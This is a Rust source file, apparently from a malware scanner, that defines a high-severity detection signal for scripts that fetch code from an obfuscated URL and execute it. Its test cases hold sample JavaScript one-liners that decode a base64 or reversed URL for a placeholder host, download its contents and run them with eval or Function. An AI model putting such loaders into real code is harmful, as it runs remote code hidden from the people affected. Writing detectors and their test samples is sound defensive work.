//! `answer-of-coded-address-run`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "answer-of-coded-address-run",
    description: "The script fetches code from an encoded URL and runs it.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::CodedAnswerRun])],
    within: 0,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"fetch(atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYQ==')).then(r=>r.text()).then(t=>eval(t))"#,
            r#"var x=new XMLHttpRequest;x.open('GET','sj.a/elpmaxe.tsoh-dedoc//:sptth'.split('').reverse().join(''));x.onload=function(){Function(x.responseText)()};x.send()"#,
        ],
        without: &[
            r#"fetch('https://coded-host.example/a').then(r=>r.text()).then(t=>eval(t))"#,
            r#"fetch(atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYQ==')).then(r=>r.text()).then(t=>{box.textContent=t})"#,
        ],
    },
};
